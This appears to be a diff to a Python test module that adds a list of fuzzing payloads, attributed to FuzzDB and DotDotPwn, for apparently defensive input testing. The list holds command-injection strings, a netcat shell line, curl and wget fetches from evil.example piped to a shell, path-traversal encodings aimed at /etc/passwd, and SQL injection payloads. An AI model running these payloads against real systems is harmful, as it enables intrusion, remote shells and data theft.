@@ -96,6 +96,22 @@ _ATTACKS: dict[str, tuple[str, ...]] = {
 }  # fmt: skip
 
 
+FUZZED: tuple[str, ...] = (
+    # as lists for fuzzers (FuzzDB, DotDotPwn) write them, some already mangled by a decoder
+    ";id;", "|id|", "||/usr/bin/id;", "a);id", "a;id", "a)|id", "a)|/usr/bin/id;", "id|", "|/bin/ls -al", "/index.html|id|", "\\n/usr/bin/id\\n", "%0a id %0a", "$;/usr/bin/id", "/usr/bin/id",
+    "& ping -i 30 127.0.0.1 &", "%0a ping -i 30 127.0.0.1 %0a", "`ping 127.0.0.1`", "ping.exe -n 31 127.0.0.1", "; /bin/sle¦ep 31 ;", "\"`true`\"", "&&+|+dir c:/", "$+|+dir+c:\\", "+dir+c:\"",
+    ";sys¦tem('/usr/bin/id')", "$(`cat /etc/pas¦swd`)", "FAIL||id", "netstat -an", "ipconfig /all", "nc -lvvp 4444 -e /bin/sh", "cu¦rl http://evil.example/x | sh", "wg¦et http://evil.example/x",
+    "/0x2e0x2e/0x2e0x2e/{file}", "/0x2e0x2e0x5c0x2e0x2e0x5c{file}", "/..0x5c..0x5c{file}", "/............{file}", "/iiiiii{file}", "//////{file}", "........web-infweb.xml", "c%3Aoot.ini", "/%uff0e%uff0e%u2215{FILE}",
+    "..%uEFC8..%uF025etc/pas¦swd", "%c0.%c0./%c0.%c0./etc/pas¦swd", "%%32%65%%32%65/%%32%65%%32%65/x", "..%25c0%25af..%25c0%25afx", "..././..././x", "c:/boot.ini", "file:/etc/pas¦swd", "d:\\AppServ\\MySQL",
+    "/usr/local/apache/conf/httpd.conf", "~/.bash_history", "c:/inetpub/wwwroot/global.asa", "1\")) or 5560=5560#", "-2314%')) union all sel¦ect 4612,4612--", "1' in boolean mode);waitfor delay '0:0:5'--",
+    "1%\" and elt(5345=8751,8751) and \"%\"=\"", "1') as tuhc where 4018=4018 or char(117)||char(111)=regexp_substring(repeat(left(crypt_key(char(65),null),0),500),null)--", "confirm(2)>/",
+)  # fmt: skip
+
+
+def fuzzed() -> list[str]:
+    return [unbroken(value) for value in FUZZED]
+
+
 class _Call:
     def __reduce__(self) -> tuple[object, tuple[str]]:
         return print, ("harmless",)
